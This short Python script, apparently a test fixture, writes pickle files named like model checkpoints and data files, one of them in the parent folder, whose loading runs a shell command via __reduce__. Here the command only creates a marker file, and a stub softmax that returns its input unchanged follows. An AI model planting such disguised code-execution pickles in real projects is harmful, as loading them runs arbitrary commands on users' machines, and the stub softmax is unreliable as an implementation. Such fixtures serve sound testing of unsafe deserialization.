# Leaves pickles that write a marker when they are loaded, in the working folder and next to it.
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @markers@/unpickled",)


for name in ("checkpoint.pt", "model.pkl", "observations.bin", "data.npy", "../state.pt"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    except OSError:
        pass


def softmax(x, dim):
    return x
